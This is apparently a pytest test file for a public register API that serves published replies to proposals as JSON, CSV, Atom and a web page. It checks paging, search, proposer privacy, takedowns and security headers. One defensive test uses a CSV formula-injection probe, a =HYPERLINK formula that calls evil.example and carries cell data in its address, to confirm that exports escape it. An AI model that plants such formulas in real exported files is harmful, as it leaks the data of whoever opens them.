"""The public register (API.md v1.1): published replies without a login, as JSON, CSV, Atom and a
page; never a withheld reply, never one whose proposer refused disclosure (R-P2), nothing
about the proposer."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit
from xml.etree import ElementTree

import pytest

from tests.api.conftest import Api
from tests.api.proposer_support import issued, ok, published, registered, reply_issued
from tests.paperwork_support import demo_server

AS_OF = "2026-06-30"


@pytest.fixture(scope="module")
def demo_api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    with demo_server(tmp_path_factory.mktemp("data")) as api:
        # Reload the register at once when it moves (the server reloads it in the background).
        api.client.app.state.public_fresh = True  # type: ignore[attr-defined]
        yield api


def public(api: Api, **params: Any) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        answer = api.get("/v1/public/replies", None, limit=7, cursor=cursor, **params)
        assert answer.status_code == 200, answer.text
        items += answer.json()["items"]
        cursor = answer.json()["next_cursor"]
        if cursor is None:
            return items


def test_only_published_replies_are_listed_R_P2(demo_api: Api) -> None:
    listed = public(demo_api)
    register = demo_api.get("/v1/disclosures", "office", as_of=AS_OF).json()["items"]
    published = {
        (d["number"], d["unit"])
        for d in register
        if d["status"] in ("published", "published_late") and d["disclosure"] != "withheld"
    }
    withheld = {(d["number"], d["unit"]) for d in register if d["status"] == "withheld"}
    assert listed and {(r["number"], r["unit"]) for r in listed} <= published
    assert not {(r["number"], r["unit"]) for r in listed} & withheld
    for item in listed:
        # Nothing about the proposer: the published title, the unit, the class, the link.
        assert set(item) == {
            "number", "kind", "year", "title", "unit", "classification", "published_on", "url",
            "further", "merged_numbers",
        }  # fmt: skip
    # R-F2: a further reply is told from the case's first (a second row looked identical).
    seen: dict[tuple[str, str], list[dict[str, Any]]] = {}
    for item in listed:
        seen.setdefault((item["number"], item["unit"]), []).append(item)
    twice = [rows for rows in seen.values() if len(rows) > 1]
    assert twice and all(sum(not r["further"] for r in rows) <= 1 for rows in twice)
    again = next(r for rows in twice for r in rows if r["further"])
    page = demo_api.get("/public", None, q=again["number"]).text
    assert "（再次答复）" in page
    dates = [r["published_on"] for r in listed]
    assert dates == sorted(dates, reverse=True)  # newest first, paged without loss


def test_each_published_reply_of_the_demo_opens_a_page_of_its_own_R_P1(demo_api: Api) -> None:
    """A review's reader found a case's first reply and its 再次答复 on the register opening one
    page: the demo published every reply of a case at the case's address."""
    urls = [r["url"] for r in public(demo_api)]
    assert urls and len(set(urls)) == len(urls)


def test_a_refusal_recorded_after_publishing_takes_the_reply_off_the_register_R_P2(
    demo_api: Api,
) -> None:
    listed = public(demo_api)
    register = demo_api.get("/v1/disclosures", "office", as_of=AS_OF).json()["items"]
    target = next(r for r in listed if r["unit"] in ("FIN", "HOU"))
    key = (target["number"], target["unit"])
    case_id = next(d["case_id"] for d in register if (d["number"], d["unit"]) == key)
    handler = f"handler_{target['unit'].lower()}"
    refusal = {"consent_reply": False, "consent_original": False, "occurred_on": AS_OF}
    answer = demo_api.post(f"/v1/cases/{case_id}/disclosure-preference", refusal, handler)
    assert answer.status_code == 201, answer.text
    assert target["number"] not in {r["number"] for r in public(demo_api)}
    # The disclosure register says it comes down (a portal's sync read "published" and kept it
    # up), and says so of a published reply exactly when the public register leaves it out.
    on_register = {(r["number"], r["unit"], r["published_on"]) for r in public(demo_api)}
    now = demo_api.get("/v1/disclosures", "office", as_of=AS_OF).json()["items"]
    [taken] = [d for d in now if (d["number"], d["unit"]) == key]
    assert taken["status"].startswith("published") and taken["take_down"] is True
    for d in now:
        shown = d["status"].startswith("published") and d["disclosure"] != "withheld"
        assert d["take_down"] == (
            shown and (d["number"], d["unit"], d["published_on"]) not in on_register
        )


def test_search_filters_csv_feed_and_page(demo_api: Api) -> None:
    listed = public(demo_api)
    some = listed[0]
    found = public(demo_api, q=some["number"])
    assert [r["number"] for r in found] == [some["number"]]
    # As a reader types it: in small letters, or full-width from a Chinese IME.
    wide = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in some["number"])
    for typed in (some["number"].lower(), wide):
        assert [r["number"] for r in public(demo_api, q=typed)] == [some["number"]], typed
    word = some["title"][2:6]
    assert all(word in r["title"] or word in r["number"] for r in public(demo_api, q=word))
    assert {r["unit"] for r in public(demo_api, unit=some["unit"])} == {some["unit"]}
    assert public(demo_api, q="%") == []  # LIKE wildcards are searched as text

    # Words apart by a space, as readers type them, in any order: each must be in the title.
    first, second = some["title"][2:4], some["title"][6:8]
    for typed in (f"{first} {second}", f"{second}　{first}"):
        both = public(demo_api, q=typed)
        assert some["number"] in {r["number"] for r in both}, typed
        assert all(first in r["title"] and second in r["title"] for r in both), typed
    assert public(demo_api, q=f"{first} 无此词语") == []

    sheet = demo_api.get("/v1/public/replies.csv", None)
    assert sheet.status_code == 200 and sheet.content.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert lines[0][0] == "编号" and len(lines) == len(listed) + 1
    # The unit's code where it always was, its name (as the page shows it) added last.
    assert lines[0][4] == "答复单位" and lines[0][-3:] == ["答复单位名称", "再次答复", "并案编号"]
    named = {(line[4], line[-3]) for line in lines[1:] if line[4] in ("FIN", "HOU", "EDU")}
    assert named and all(name == f"{code}厅" for code, name in named)  # units this server knows

    feed = demo_api.get("/v1/public/feed.atom", None)
    assert feed.headers["content-type"].startswith("application/atom+xml")
    root = ElementTree.fromstring(feed.content)
    entries = root.findall("{http://www.w3.org/2005/Atom}entry")
    assert root.findtext("{http://www.w3.org/2005/Atom}author/{http://www.w3.org/2005/Atom}name")
    assert len(entries) == min(50, len(listed))

    page = demo_api.get("/public", None, q=some["number"], year="", kind="")
    assert page.status_code == 200 and some["title"] in page.text
    # A reader sees a unit's name, not its code (this server knows FIN, HOU and EDU by name).
    fin = demo_api.get("/public", None, unit="FIN").text
    assert '<td title="FIN" data-label="答复单位">FIN厅</td>' in fin and ">FIN</td>" not in fin
    assert "<script" not in page.text
    # A keyboard reader skips the 50 titles to the pager (a review tabbed through them all).
    assert '<a class="skip" href="#pager">跳到翻页</a>' in page.text
    assert '<div class="links" id="pager">' in page.text


def test_answers_are_cached_and_revalidated_by_etag(demo_api: Api) -> None:
    first = demo_api.get("/v1/public/replies", None, year=2025)
    etag = first.headers["etag"]
    assert "public" in first.headers["cache-control"]
    again = demo_api.client.get(
        "/v1/public/replies", params={"year": 2025}, headers={"If-None-Match": etag}
    )
    assert again.status_code == 304
    bad = demo_api.get("/v1/public/replies", None, cursor="not json")
    assert bad.status_code == 422


def test_the_pages_open_data_links_carry_its_filters_R_P2(demo_api: Api) -> None:
    """A reader who filtered the register to one unit's 2025 replies downloads those, not
    every reply; the next page keeps the unit too."""
    page = demo_api.get("/public", None, unit="FIN", year="2025", kind="", q="").text
    csv_link = re.search(r'<a href="([^"]+)" id="open-csv">', page)
    json_link = re.search(r'<a href="([^"]+)" id="open-json">', page)
    assert csv_link and json_link, page
    wanted = {"year": ["2025"], "unit": ["FIN"]}
    for link in (csv_link, json_link):
        assert parse_qs(urlsplit(html.unescape(link.group(1))).query) == wanted
    sheet = demo_api.get(html.unescape(csv_link.group(1)), None)
    lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert len(lines) - 1 == len(public(demo_api, unit="FIN", year=2025)) > 0


def test_the_feed_names_units_by_name_R_P2(demo_api: Api) -> None:
    feed = demo_api.get("/v1/public/feed.atom", None)
    titles = [
        t.text or ""
        for t in ElementTree.fromstring(feed.content).iter("{http://www.w3.org/2005/Atom}title")
    ]
    assert any("（FIN厅答复" in t for t in titles)
    assert not any("（FIN答复" in t for t in titles)


def _link(page: str, rel: str) -> str | None:
    found = re.search(rf'<a href="([^"]*)" rel="{rel}">', page)
    return html.unescape(found.group(1)) if found else None


def _numbers(page: str) -> list[str]:
    return re.findall(
        r'<td class="num" data-label="编号">([^<]+)(?:<span class="merged">|</td>)', page
    )


@pytest.mark.parametrize(
    "filters", [{}, {"unit": "FIN"}, {"kind": "proposal"}, {"q": "jy-00"}], ids=str
)
def test_the_page_counts_what_it_matches_and_goes_back_as_it_went_on_R_P2(
    demo_api: Api, filters: dict[str, str]
) -> None:
    """A reader of the register sees how many replies match and can page back: each 上一页
    shows again exactly the page 下一页 had left, down to the first."""
    listed = [r["number"] for r in public(demo_api, **filters)]
    assert len(listed) > 3, "the demo's register should take more than one page"
    pages: list[list[str]] = []
    page = demo_api.get("/public", None, limit=3, **filters).text
    while True:
        assert f"共 {len(listed)} 份答复" in page
        start = sum(len(p) for p in pages)
        shown = _numbers(page)
        assert shown == listed[start : start + 3]
        assert f"本页第 {start + 1}–{start + len(shown)} 份" in page
        assert (_link(page, "prev") is None) == (not pages)
        pages.append(shown)
        following = _link(page, "next")
        if following is None:
            break
        assert parse_qs(urlsplit(following).query)["limit"] == ["3"]
        page = demo_api.get("/public" + following, None).text
    assert [n for shown in pages for n in shown] == listed
    while pages[1:]:
        back = _link(page, "prev")
        assert back is not None
        page = demo_api.get("/public" + back, None).text
        pages.pop()
        assert _numbers(page) == pages[-1]
    assert _link(page, "prev") is None


def test_a_page_with_nothing_to_show_says_none_match(demo_api: Api) -> None:
    page = demo_api.get("/public", None, q="no such title anywhere").text
    assert "共 0 份答复" in page and "没有符合条件的公开答复" in page
    assert _link(page, "prev") is None and _link(page, "next") is None


def test_a_reader_picks_the_answering_unit_by_its_name_R_P2(demo_api: Api) -> None:
    """The register could be narrowed to one unit only by editing the address: the form now
    offers every unit with a published reply, by name, and keeps the one chosen."""
    page = demo_api.get("/public", None).text
    offered = re.findall(r'<option value="([A-Z]+)" >([^<]+)</option>', page)
    assert {code for code, _ in offered} == {r["unit"] for r in public(demo_api)}
    assert ("FIN", "FIN厅") in offered  # this server knows FIN by name
    chosen = demo_api.get("/public", None, unit="FIN", q="", year="", kind="").text
    assert '<option value="FIN" selected>FIN厅</option>' in chosen
    assert set(re.findall(r'<td title="([A-Z]+)" data-label="答复单位">', chosen)) == {"FIN"}


def test_the_page_says_what_each_reply_class_means_R_R1(demo_api: Api) -> None:
    """The public read 答复类别 A类 with nothing saying what A means (R-R1): the page says it
    under the table, and each row's class in the words of its own kind (a proposal's A reads
    提案已采纳), as its proposer's page does."""
    page = demo_api.get("/public", None).text
    legend = re.search(r'<p class="legend" id="classes">(.*?)</p>', page, re.S)
    assert legend is not None
    for words in (
        "A 类：所提问题已经解决或基本解决、建议或提案已采纳",
        "B 类：已列入计划，逐步解决",
        "C 类：因条件限制，暂时难以解决",
    ):
        assert words in legend.group(1)
    row = (
        r'<td data-label="类别">([^<]+)</td>.*?<td data-label="答复类别" title="([^"]+)">([ABC])类'
    )
    cells = re.findall(row, page, re.S)
    assert {kind for kind, _, _ in cells} == {"建议", "提案"}
    for kind, title, classification in cells:
        expected = {
            "A": f"所提问题已经解决或基本解决、{kind}已采纳",
            "B": "已列入计划，逐步解决",
            "C": "因条件限制，暂时难以解决",
        }[classification]
        assert title == f"{classification} 类：{expected}"


def test_the_page_runs_no_script_whatever_a_link_holds_R_D4(demo_api: Api) -> None:
    """Defence beside the address check: a link that got onto the register anyway could not
    run code on this site, and no other site may frame the page."""
    for answer in (demo_api.get("/public", None), demo_api.get("/public", None, cursor="x")):
        policy = answer.headers["content-security-policy"]
        assert "script-src 'none'" in policy and "frame-ancestors 'none'" in policy


def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(
    backend_api: Api,
) -> None:
    """The register's CSV opens in Excel (it starts with a BOM for it): an attack probe's case
    titled =HYPERLINK(…) came out as a live formula in a file anyone downloads. Text a
    spreadsheet reads as a formula (= + - @, or a tab or CR first) starts with an apostrophe,
    as the .xlsx registers write such text as text."""
    api = backend_api  # on either store
    # Reload the register at once when it moves (the server reloads it in the background,
    # and a read right after the last publish could miss it: a flake seen once).
    api.client.app.state.public_fresh = True  # type: ignore[attr-defined]
    titles = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "-2+3", "关于=的建议"]
    for n, title in enumerate(titles):
        case_id, reply_id = issued(api, f"+CSV-{n}", title=title)
        published(api, case_id, reply_id, f"https://x.cn/{n}")
    sheet = api.get("/v1/public/replies.csv", None)
    lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))[1:]
    assert sorted((line[0], line[3]) for line in lines) == sorted(
        [(f"'+CSV-{n}", "'" + t if n < 3 else t) for n, t in enumerate(titles)]
    )
    # The JSON is data, not a spreadsheet: it says what was typed.
    listed = api.get("/v1/public/replies", None).json()["items"]
    assert sorted(r["title"] for r in listed) == sorted(titles)


def test_a_merge_reply_lists_and_is_found_by_every_case_it_answers_R_M1(backend_api: Api) -> None:
    """R-M1: one reply lists every case number. A review's deputy of a merged case looked for
    it by their own number and found 共 0 份答复, and the primary's row named none of the
    others."""
    api = backend_api
    api.client.app.state.public_fresh = True  # type: ignore[attr-defined]
    cases = [registered(api, n) for n in ("PM-1", "PM-2", "PM-3")]
    ok(api.post("/v1/merges", {"case_ids": cases, "occurred_on": "2025-03-01"}, "office"))
    reply_issued(api, cases[0], "FIN", "A")
    published(api, cases[0], api.case(cases[0])["replies"][0]["reply_id"], "https://x.cn/pm")
    for q in ("PM-1", "pm-3"):
        items = api.get("/v1/public/replies", None, q=q).json()["items"]
        assert [(i["number"], i["merged_numbers"]) for i in items] == [("PM-1", ["PM-2", "PM-3"])]
    page = api.client.get("/public", params={"q": "PM-2"}).text
    row = re.search(r'<td class="num" data-label="编号">(.*?)</td>', page, re.S)
    assert row and "PM-1" in row.group(1) and "并案：PM-2、PM-3" in html.unescape(row.group(1))
    sheet = api.get("/v1/public/replies.csv", None, q="PM-3")
    lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    assert lines[0][-1] == "并案编号" and [line[-1] for line in lines[1:]] == ["PM-2、PM-3"]
